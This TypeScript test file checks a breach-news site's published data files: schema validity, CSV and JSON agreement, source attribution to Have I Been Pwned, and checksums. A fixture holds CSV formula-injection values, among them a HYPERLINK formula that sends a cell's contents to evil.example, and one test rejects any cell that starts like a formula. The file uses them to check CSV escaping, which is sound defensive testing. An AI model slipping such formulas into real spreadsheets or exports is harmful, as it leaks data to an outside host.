import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ajv, type ValidateFunction } from 'ajv';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { describe, expect, it } from 'vitest';
import { readContent } from '../src/library/content.ts';
import type { Company } from '../src/model/company.ts';
import type { Library } from '../src/model/library.ts';
import { noReleases } from '../src/model/release.ts';
import { changesBetween } from '../src/publish/data/changes.ts';
import { dataFiles } from '../src/publish/data/data-files.ts';
import { unsourced, type StoryData } from '../src/publish/data/story-data.ts';
import { sha256 } from '../src/publish/data/checksums.ts';
import { aCompany } from './fixtures/stories.ts';
import { withdrawnStory } from './fixtures/withdrawn-story.ts';
import { readCsv } from './fixtures/read-csv.ts';

/** Names that a spreadsheet would run, or that would break a row. */
const hostile: Partial<Company> = {
  name: '=HYPERLINK("https://evil.example?"&A1,"win")',
  aliases: ['@sum', '+1', '-1+2', "'quoted", 'a,b', 'two\nlines', '\ttab', '"'],
};

const project = join(import.meta.dirname, '..');
const place = { origin: 'https://breche.example', base: '/news/' };
const { library: own } = readContent(join(project, 'content'));
/** The site's own content, and what it happens not to hold: withdrawals, a release, hostile names. */
const library: Library = {
  ...own,
  companies: { ...own.companies, formula: aCompany('formula', hostile) },
  withdrawn: [withdrawnStory],
  record: { ...own.record, withdrawn: [{ name: 'Gone', withdrawn: '2026-11-22' }] },
  releases: {
    list: [
      {
        version: '1.0.0',
        date: '2026-11-22',
        changes: changesBetween(noReleases.last, noReleases.last),
      },
    ],
    last: noReleases.last,
  },
};
const files = new Map(
  dataFiles(library, place).map(({ path, content }) => [path, content().toString()]),
);
const text = (path: string): string => {
  const content = files.get(path);
  if (content === undefined) throw new Error(`There is no ${path}`);
  return content;
};
type Item = Readonly<Record<string, unknown>>;
const json = (path: string): Record<string, unknown> =>
  JSON.parse(text(path)) as Record<string, unknown>;
const listIn = (path: string): readonly Item[] =>
  json(path)[path.replace(/\.json$/, '')] as readonly Item[];

interface Resource {
  name: string;
  path: string;
  bytes: number;
  hash: string;
  licenses: readonly object[];
  sources: readonly object[];
  schema?: {
    fields: readonly {
      name: string;
      type: string;
      separator?: string;
      constraints?: { required?: boolean; enum?: readonly string[] };
    }[];
    primaryKey?: readonly string[];
    foreignKeys?: readonly {
      fields: readonly string[];
      reference: { resource: string; fields: readonly string[] };
    }[];
  };
}
const descriptor = json('datapackage.json') as { resources: readonly Resource[]; version: string };
const tables = descriptor.resources.filter(({ schema }) => schema);

describe('JSON', () => {
  /** The published schemas let pass what they do not know; this site writes nothing of the kind. */
  const closed = (schema: unknown): unknown =>
    Array.isArray(schema)
      ? schema.map(closed)
      : typeof schema === 'object' && schema !== null
        ? {
            ...Object.fromEntries(
              Object.entries(schema).map(([key, value]) => [key, closed(value)]),
            ),
            ...('properties' in schema && { additionalProperties: false }),
          }
        : schema;
  const ajv = addFormats(new Ajv2020({ strict: true, allErrors: true }));
  const validators = new Map<string, ValidateFunction>(
    [...files.keys()]
      .filter((path) => path.startsWith('schema/'))
      .map((path) => [
        `https://breche.example/news/data/v1/${path}`,
        ajv.compile(closed(json(path)) as object),
      ]),
  );
  const described = [...files.keys()].filter(
    (path) => path.endsWith('.json') && !path.startsWith('schema/') && path !== 'datapackage.json',
  );

  it('is valid by the schema that each file names, and holds nothing else', () => {
    const faults = described.flatMap((path) => {
      const data = json(path) as { about: { schema: string } };
      const validate = validators.get(data.about.schema);
      if (!validate) return [`${path} names ${data.about.schema}`];
      return validate(data) ? [] : [`${path}: ${ajv.errorsText(validate.errors)}`];
    });
    expect(faults.slice(0, 10)).toEqual([]);
    expect(described.length).toBe(
      6 + library.stories.length + Object.keys(library.companies).length,
    );
  });

  it('is refused by its schema when a value is of no such kind', () => {
    const validate = validators.get('https://breche.example/news/data/v1/schema/story.schema.json');
    const [first] = library.stories;
    for (const spoil of [
      { action: 'magic' },
      { disclosed: 'last year' },
      { figures: [{ id: 'x', count: -1 }] },
      { published: '2026' },
    ]) {
      const data = json(`stories/${first?.id ?? ''}.json`);
      expect(validate?.({ ...data, story: { ...(data['story'] as object), ...spoil } })).toBe(
        false,
      );
    }
  });

  it('has one file for each story and company, with what the lists say of them', () => {
    for (const story of listIn('stories.json'))
      expect(json(`stories/${String(story['id'])}.json`)['story']).toEqual(story);
    const stories = new Map(listIn('stories.json').map((story) => [story['id'], story]));
    const records = new Map(listIn('records.json').map((record) => [record['id'], record]));
    for (const company of listIn('companies.json')) {
      const file = json(`companies/${String(company['id'])}.json`);
      expect(file['company']).toEqual(company);
      const { stories: breached, supplied, records: entries } = company as Record<string, string[]>;
      expect(file['stories']).toEqual(
        [...(breached ?? []), ...(supplied ?? [])].map((id) => stories.get(id)),
      );
      expect(new Set(file['records'] as Item[])).toEqual(
        new Set((entries ?? []).map((id) => records.get(id))),
      );
    }
  });

  it('says of every value who said it and when', () => {
    for (const story of listIn('stories.json') as unknown as readonly StoryData[]) {
      const known = new Set(story.sources.map(({ id }) => id));
      for (const { source, since } of story.statuses)
        expect([known.has(source), since]).toEqual([true, expect.any(String)]);
      for (const { source, said } of [...story.figures, ...story.amounts])
        expect([known.has(source), said]).toEqual([true, expect.any(String)]);
      for (const { source, date } of story.events)
        expect([known.has(source), date]).toEqual([true, expect.any(String)]);
      for (const of of unsourced) {
        const value = story[of];
        if (value === undefined || value.length === 0 || value === 'unknown') continue;
        const [from, ...others] = story.provenance.filter((one) => one.of === of);
        expect(others).toEqual([]);
        expect(from?.asOf).toMatch(/^\d{4}/);
        expect(from?.sources.length).toBeGreaterThan(0);
        expect(from?.sources.filter((source) => !known.has(source))).toEqual([]);
      }
    }
    for (const record of listIn('records.json'))
      expect(record).toMatchObject({
        source: 'Have I Been Pwned',
        url: expect.stringMatching(/^https:\/\/haveibeenpwned\.com\/Breach\/./) as string,
        licence: 'CC BY 4.0',
        added: expect.any(String) as string,
      });
  });

  it('names the public record and its licence in every file that holds some of it', () => {
    const nameless = described.filter((path) => {
      const { records = [], about } = json(path) as {
        records?: readonly object[];
        about: {
          attribution: readonly { of: readonly string[]; name: string; licenceUrl: string }[];
        };
      };
      return (
        records.length > 0 &&
        !about.attribution.some(
          ({ of, name, licenceUrl }) =>
            of.includes('records') &&
            name === 'Have I Been Pwned' &&
            licenceUrl.startsWith('https://creativecommons.org/'),
        )
      );
    });
    expect(nameless).toEqual([]);
  });
});

describe('CSV', () => {
  /** Where the values of a table stand in its twin: in its list, or in a list of each of its items. */
  const rowsOf = (name: string): readonly Item[] => {
    const nested = (list: string, owner: string, key: string): readonly Item[] =>
      listIn(list).flatMap((item) =>
        (item[key] as readonly Item[]).map((one) => ({ [owner]: item['id'], ...one })),
      );
    if (name === 'names') return nested('companies.json', 'company', 'names');
    return files.has(`${name}.json`)
      ? listIn(`${name}.json`)
      : nested('stories.json', 'story', name);
  };
  /** A cell as the documentation says to read it. */
  const valueIn = (cell: string, type: string, separator: string | undefined): unknown => {
    if (separator !== undefined) return cell === '' ? [] : cell.split(separator);
    if (cell === '') return undefined;
    if (type === 'integer' || type === 'number') return Number(cell);
    if (type === 'boolean') return cell === 'true';
    return cell.startsWith("'") ? cell.slice(1) : cell;
  };

  it.each(tables.map(({ path }) => path.replace('.csv', '')))(
    '%s agrees with JSON, value by value',
    (name) => {
      const table = tables.find(({ path }) => path === `${name}.csv`);
      const rows = readCsv(text(`${name}.csv`));
      const twins = rowsOf(name);
      expect(rows).toHaveLength(twins.length);
      const fields = table?.schema?.fields ?? [];
      const differing = rows.flatMap((row, index) =>
        fields.flatMap(({ name: field, type, separator }) => {
          const [value, twin] = [
            valueIn(row[field] ?? '', type, separator),
            twins[index]?.[field] ?? (separator === undefined ? undefined : []),
          ];
          return JSON.stringify(value) === JSON.stringify(twin)
            ? []
            : [`${field}: ${JSON.stringify(value)} is ${JSON.stringify(twin)}`];
        }),
      );
      expect(differing).toEqual([]);
      // Nothing flat is left out: every key of the JSON is a column or a table of its own.
      const columns = new Set(fields.map((field) => field.name));
      const left = twins.flatMap((twin) =>
        Object.entries(twin)
          .filter(
            ([key, value]) =>
              !columns.has(key) &&
              !(Array.isArray(value) && value.every((one) => typeof one === 'object')),
          )
          .map(([key]) => key),
      );
      expect([...new Set(left)]).toEqual([]);
    },
  );

  it('runs nowhere: no cell begins as a formula does', () => {
    const running = tables.flatMap(({ path }) =>
      readCsv(text(path)).flatMap((row) =>
        Object.values(row).filter((cell) => /^[=+\-@\t\r]/.test(cell)),
      ),
    );
    expect(running).toEqual([]);
    expect(text('companies.csv')).toContain('"\'=HYPERLINK(""https://evil.example?""');
  });

  it('keeps to its Table Schema: required cells, codes, keys that name one row, and rows that are there', () => {
    const cells = new Map(tables.map(({ name, path }) => [name, readCsv(text(path))]));
    const keyOf = (row: Record<string, string>, fields: readonly string[]): string =>
      fields.map((field) => row[field]).join('\n');
    const faults = tables.flatMap(({ name, schema }) => {
      const rows = cells.get(name) ?? [];
      const { fields = [], primaryKey, foreignKeys = [] } = schema ?? {};
      return [
        ...fields.flatMap((field) => {
          const { required, enum: codes } = field.constraints ?? {};
          return rows.flatMap((row) => {
            const cell = row[field.name] ?? '';
            if (cell === '') return required ? [`${name}: ${field.name} is empty`] : [];
            return codes && !codes.includes(cell) ? [`${name}: ${cell} is no ${field.name}`] : [];
          });
        }),
        ...(primaryKey && new Set(rows.map((row) => keyOf(row, primaryKey))).size < rows.length
          ? [`${name}: a key stands twice`]
          : []),
        ...foreignKeys.flatMap(({ fields: own, reference }) => {
          const there = new Set(
            (cells.get(reference.resource) ?? []).map((row) => keyOf(row, reference.fields)),
          );
          return rows
            .filter((row) => row[own.at(-1) ?? ''] !== '')
            .map((row) => keyOf(row, own))
            .filter((key) => !there.has(key))
            .map((key) => `${name}: ${key} is not in ${reference.resource}`);
        }),
      ];
    });
    expect(faults.slice(0, 10)).toEqual([]);
  });
});

describe('datapackage.json', () => {
  it('follows the JSON Schema of Data Package 2.0', () => {
    const profile = JSON.parse(
      readFileSync(join(project, 'tests/fixtures/data-package-2.0.json'), 'utf8'),
    ) as object;
    const ajv = addFormats(new Ajv({ strict: false, allErrors: true }));
    ajv.addFormat('textarea', true);
    const validate = ajv.compile(profile);
    validate(descriptor);
    expect(ajv.errorsText(validate.errors).slice(0, 500)).toBe('No errors');
    expect(validate({ ...descriptor, resources: [{ name: 'x' }] })).toBe(false);
    expect(validate({ ...descriptor, licenses: [{ title: 'free' }] })).toBe(false);
  });

  it('describes every list and table, with its size, checksum, licences and sources', () => {
    const lists = [...files.keys()].filter(
      (path) => !path.includes('/') && !['datapackage.json', 'SHA256SUMS.txt'].includes(path),
    );
    expect(descriptor.resources.map(({ path }) => path).sort()).toEqual(lists.sort());
    for (const { path, bytes, hash, licenses, sources } of descriptor.resources) {
      expect([bytes, hash]).toEqual([
        Buffer.byteLength(text(path)),
        `sha256:${sha256(text(path))}`,
      ]);
      expect(licenses.length).toBeGreaterThan(0);
      expect(sources.length).toBeGreaterThan(0);
    }
    expect(
      JSON.stringify(descriptor.resources.find(({ path }) => path === 'records.csv')?.sources),
    ).toContain('https://haveibeenpwned.com/');
  });
});

describe('SHA256SUMS.txt', () => {
  it('holds every other file', () => {
    const sums = text('SHA256SUMS.txt')
      .trimEnd()
      .split('\n')
      .map((line) => line.split('  '));
    expect(sums.map(([, path]) => path).sort()).toEqual(
      [...files.keys()].filter((path) => path !== 'SHA256SUMS.txt').sort(),
    );
    for (const [sum, path = ''] of sums) expect(sum).toBe(sha256(text(path)));
  });
});
